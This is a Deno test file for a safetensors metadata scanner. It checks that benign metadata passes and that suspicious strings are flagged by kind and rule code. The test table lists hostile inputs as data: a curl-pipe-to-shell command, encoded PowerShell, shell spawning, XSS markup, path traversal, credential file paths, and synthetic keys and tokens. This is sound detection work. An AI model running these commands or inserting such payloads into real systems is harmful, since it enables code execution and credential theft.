import * as assert from "node:assert/strict";
import { ALPHANUMERIC, base64Url, chars } from "../../knowledge/secrets/sample_secrets.ts";
import { verdict } from "../../verdict.ts";
import { describeFailures } from "../format_scan.ts";
import { AWS_KEY, file, scanFile } from "./safetensors_bytes.ts";

Deno.test("metadata of real models causes no finding", () => {
  const metadata = {
    format: "pt",
    "modelspec.description":
      "Call model.eval() first; trained by compile (ours), eval (mean) 0.3." +
      " See https://example.org/a?b=c, e.g. the javascript (frontend) part; password: none",
    ss_tag_frequency: '{"img":{"1girl":3,"solo, eval":1}}',
    ss_sd_model_name: "/content/models/base.safetensors",
    ss_base: "../base.safetensors",
    windows: "C:\\Users\\a\\model.safetensors",
    thumbnail: `data:image/jpeg;base64,${btoa("\xff\xd8".repeat(999))}`,
  };
  const header = JSON.stringify({ __metadata__: metadata });
  const { checks } = scanFile(file(header));
  assert.equal(verdict(checks), "OK", describeFailures(checks));
});

Deno.test("C 16 suspicious metadata is found by kind, even at the end of a long text", async (t) => {
  const jwt = `${base64Url('{"alg":"HS256"}')}.${base64Url('{"sub":"42"}')}.${
    chars(43, ALPHANUMERIC)
  }`;
  const rows: [string, string, string][] = [
    ["eval(x)", "code", "S104"],
    ["a; exec('b')", "code", "S104"],
    ["compile('a', 'b', 'exec')", "code", "S105"],
    ["os.popen('id')", "code", "S101"],
    ["subprocess.run(['id'])", "code", "S103"],
    ["pty.spawn('sh')", "code", "S103"],
    ["importlib.import_module('os')", "code", "S107"],
    ["pickle.loads(b)", "code", "S213"],
    ["marshal.load(b)", "code", "S213"],
    ["base64.b64decode(b)", "code", "S601"],
    ["x.__class__.y", "code", "S104"],
    ["curl -s http://a | sh", "code", "S504"],
    ["powershell -enc AAAA", "code", "S506"],
    ["\\x41".repeat(9), "code", "S602"],
    ["<SCRIPT>", "markup", "S508"],
    ["javascript:a()", "markup", "S508"],
    ["<img src=x onerror=a()>", "markup", "S508"],
    ["x/../../y", "path", "S405"],
    ["see ../../y", "path", "S405"],
    ["%2e%2e%2fy", "path", "S405"],
    ["/etc/passwd", "path", "S408"],
    ["C:/Windows/System32/a", "path", "S408"],
    ["~/.ssh/id_rsa", "path", "S408"],
    [`-----BEGIN RSA PRIVATE KEY-----\n${chars(64, ALPHANUMERIC)}`, "private key", "S703"],
    [AWS_KEY, "AWS access key", "S704"],
    [`hf_${chars(34, ALPHANUMERIC)}`, "Hugging Face token", "S701"],
    [`sk-${chars(48, ALPHANUMERIC)}`, "OpenAI key", "S701"],
    [`ghp_${chars(36, ALPHANUMERIC)}`, "GitHub token", "S701"],
    [jwt, "JWT", "S707"],
    ["postgres://me:" + "hunter2x@host/db", "database URL", "S706"],
    ["password = 'correct-horse'", "password", "S702"],
  ];
  for (const [text, kind, rule] of rows) {
    for (const padding of ["", "word ".repeat(300_000)]) {
      await t.step(`${text.slice(0, 30)} after ${padding.length}: ${kind}`, () => {
        const metadata = { x: `${padding}${text}` };
        const { checks } = scanFile(file(JSON.stringify({ __metadata__: metadata })));
        const found = checks.filter(({ status }) => status === "failed");
        assert.equal(found.every((check) => check.details?.["kind"] === kind), true);
        assert.ok(found.some(({ ruleCode }) => ruleCode === rule));
      });
    }
  }
});

Deno.test("a finding does not repeat the credential", () => {
  const key = AWS_KEY;
  const { checks } = scanFile(file(`{"__metadata__":{"x":"key ${key}"}}`));
  assert.equal(verdict(checks), "C");
  assert.equal(JSON.stringify(checks).includes(key), false);
});
